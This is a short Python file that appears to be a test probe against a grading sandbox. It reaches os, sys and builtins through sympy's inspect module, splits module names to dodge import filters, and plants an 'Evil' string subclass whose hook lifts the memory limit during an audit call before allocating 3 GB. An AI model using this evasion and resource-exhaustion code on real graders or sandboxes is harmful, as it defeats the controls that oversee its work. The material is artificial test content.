"""effect: exhaust-memory
tries: route 1, then setrlimit(RLIMIT_AS, unlimited) and allocate 3 GB (bounded).

Raising a hard limit needs CAP_SYS_RESOURCE; without it the limit holds even with the hook off.
"""

from lagrade.answer import *

from sympy.core.function import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])
resource_ = members(sys_)["modules"].get("resource") or B["_" + "_import_" + "_"]("resource")
ran = []


def hook_str(self):
    if not ran:
        ran.append(1)
        infinity = members(resource_)["RLIM_INFINITY"]
        members(resource_)["setrlimit"](members(resource_)["RLIMIT_AS"], (infinity, infinity))
    return "sympy"


Evil = type("Evil", (str,), {"_" + "_str_" + "_": hook_str})
sys_.audit("import", Evil("anything"))
hook_str(None)  # if no hook ran it: try anyway
hoard = [bytearray(256 * 1024 * 1024) for _ in range(12)]
L = Symbol("x")
